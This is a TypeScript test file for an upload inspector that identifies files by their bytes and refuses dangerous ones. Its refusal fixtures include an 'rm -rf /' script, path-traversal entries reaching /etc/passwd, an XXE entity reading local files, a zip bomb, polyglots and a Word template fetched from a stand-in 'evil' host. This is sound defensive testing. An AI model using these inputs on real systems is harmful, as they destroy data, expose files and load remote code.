import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { inspect, type Inspected, tailBytes } from './index.ts'
import { zipOf } from './testing.ts'

const seen = (whole: Buffer, name: string): Inspected => ({
  head: whole.subarray(0, 65_536),
  tail: whole.subarray(-tailBytes),
  size: whole.length,
  whole,
  name,
})
const look = (whole: Buffer, name: string) => inspect(seen(whole, name))

const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
const docx = (more: Record<string, string | Buffer> = {}): Buffer =>
  zipOf({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...more })
const pdf = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n')
const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
  .png()
  .toBuffer()

test.each([
  ['a PDF', pdf, 'a.pdf', 'application/pdf', 'pdf'],
  ['a picture', png, 'a.png', 'image/png', 'picture'],
  ['a Word file', docx(), 'a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'word'],
  ['a workbook', zipOf({ '[Content_Types].xml': types, 'xl/workbook.xml': '<x/>' }), 'a.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'sheet'],
  ['plain text', Buffer.from('客户来访记录\n'), 'a.txt', 'text/plain', 'text'],
  ['text in GB 18030', Buffer.from('bfcdbba70a', 'hex'), 'a.txt', 'text/plain', 'text'],
  ['a table', Buffer.from('姓名,电话\n'), 'a.csv', 'text/csv', 'csv'],
  ['a mail', Buffer.from('From: a@b.c\r\nSubject: x\r\n\r\nhello'), 'a.eml', 'message/rfc822', 'mail'],
])('%s is known by its bytes', async (_what, bytes, name, contentType, kind) => {
  expect(await look(bytes, name)).toEqual({ contentType, kind, hasMacros: false })
}) // prettier-ignore

test('an ending that belongs to something else is noted, and the content decides', async () => {
  expect(await look(png, 'scan.pdf')).toMatchObject({ contentType: 'image/png', mismatch: 'pdf' })
  expect(await look(pdf, '合同.PDF')).not.toHaveProperty('mismatch')
})

describe('is refused:', () => {
  test.each([
    ['a program', Buffer.from('MZ\u0090\u0000\u0003', 'latin1'), 'a.pdf', 'kind'],
    ['a program of another system', Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), 'a.png', 'kind'],
    ['a script', Buffer.from('#!/bin/sh\nrm -rf /'), 'notes.txt', 'kind'],
    ['text that a desktop would run', Buffer.from('WScript.Echo 1'), 'notes.vbs', 'kind'],
    ['a runnable ending behind dots and spaces', Buffer.from('echo'), 'notes.bat. .', 'kind'],
    ['a web page', Buffer.from('<!doctype html><script>alert(1)</script>'), 'a.txt', 'kind'],
    ['a drawing with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'a.png', 'kind'],
    ['an archive', zipOf({ 'a.txt': 'x' }), 'a.zip', 'kind'],
    ['a jar named like a document', zipOf({ 'META-INF/MANIFEST.MF': 'x' }), 'a.docx', 'kind'],
    ['a picture that is a jar as well', Buffer.concat([png, zipOf({ 'META-INF/MANIFEST.MF': 'x' })]), 'a.png', 'polyglot'],
    ['a PDF that is an archive as well', Buffer.concat([pdf, zipOf({ 'a.exe': 'MZ' })]), 'a.pdf', 'polyglot'],
    ['a package that unpacks abnormally', docx({ 'word/media/a.xml': Buffer.alloc(8_000_000) }), 'a.docx', 'bomb'],
    ['a package whose part leaves it', docx({ '../../etc/passwd': 'x' }), 'a.docx', 'unsafe-path'],
    ['a package with a path of another system', docx({ 'C:\\evil.dll': 'x' }), 'a.docx', 'unsafe-path'],
    ['a package locked by a password', zipOf({ '[Content_Types].xml': types, 'word/document.xml': 'x' }, 1), 'a.docx', 'encrypted'],
    ['XML that declares entities', docx({ 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }), 'a.docx', 'entities'],
    ['XML that declares them in UTF-16', docx({ 'word/styles.xml': Buffer.from('<!DOCTYPE x []><x/>', 'utf16le') }), 'a.docx', 'entities'],
    ['a package cut short', docx().subarray(0, -30), 'a.docx', 'damaged'],
    ['nothing', Buffer.alloc(0), 'a.txt', 'damaged'],
    ['bytes without meaning', Buffer.from([1, 2, 3, 0, 4]), 'a.txt', 'kind'],
  ])('%s', async (_what, bytes, name, refused) => {
    expect(await look(bytes, name)).toEqual({ refused })
  }) // prettier-ignore

  test('parts that share their packed bytes', async () => {
    const bytes = docx({ 'a.xml': 'a'.repeat(1000), 'b.xml': 'b'.repeat(1000) })
    // The directory is made to say that the last part lies where the one before it does.
    const entries: number[] = []
    for (let at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\u0001\u0002', at + 1, 'latin1')) entries.push(at) // prettier-ignore
    const [third, fourth] = entries.slice(-2)
    bytes.writeUInt32LE(bytes.readUInt32LE(third! + 42), fourth! + 42)
    expect(await look(bytes, 'a.docx')).toEqual({ refused: 'bomb' })
  })
})

test.each([
  ['macros', docx({ 'word/vbaProject.bin': 'x' }), 'a.docm'],
  ['a template fetched from elsewhere', docx({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>' }), 'a.docx'],
  ['a script in a PDF', Buffer.from('%PDF-1.7\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF'), 'a.pdf'],
  ['macros in an old file', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from('_VBA_PROJECT\0', 'utf16le'), Buffer.alloc(600)]), 'a.doc'],
])('%s are seen', async (_what, bytes, name) => {
  expect(await look(bytes, name)).toMatchObject({ hasMacros: true })
}) // prettier-ignore
